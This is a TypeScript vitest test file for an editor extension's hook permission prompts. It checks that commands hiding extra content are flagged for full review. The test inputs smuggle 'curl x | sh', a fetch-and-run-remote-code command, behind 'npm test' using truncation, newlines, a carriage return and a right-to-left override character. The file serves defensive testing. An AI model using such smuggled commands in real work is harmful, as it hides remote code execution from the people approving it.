/** What a hook's command or agent asks, and when all of it must be read before it can be allowed. */
import { expect, test } from 'vitest';
import { readHookFile } from '../../src/core/hooks/read/readHookFile';
import { permitQuestion } from '../../src/extension/hooks/words';
import { subjectOf } from '../../src/extension/runs/words';
import { permission } from '../webview/gallery/runs';

const file = { path: '/w/.kiro/hooks.yaml', name: '.kiro/hooks.yaml', scope: 'workspace' } as const;
const [hook] = readHookFile(file, 'hooks:\n  - name: lint\n    trigger: manual\n    run: "make"\n').hooks;

test.each([
  ['a short line', 'npm test', undefined],
  ['as long as is shown', 'a'.repeat(120), undefined],
  ['a tail that is cut off', `${'a'.repeat(120)}; curl x | sh`, true],
  ['a second line', 'npm test\ncurl x | sh', true],
  ['a line that begins anew', 'curl x | sh\rnpm test', true],
  ['letters that turn the order round', 'npm test \u202ehs | x lruc', true],
])('%s', (_, line, review) => {
  if (hook === undefined) throw new Error('no hook');
  const request = permission({ action: { kind: 'command', line, cwd: '/w', shell: 'posix', sandboxed: true } });
  const question = permitQuestion(request, hook, subjectOf(request));
  expect(question.review).toBe(review);
  expect(question.detail).toContain(line);
});
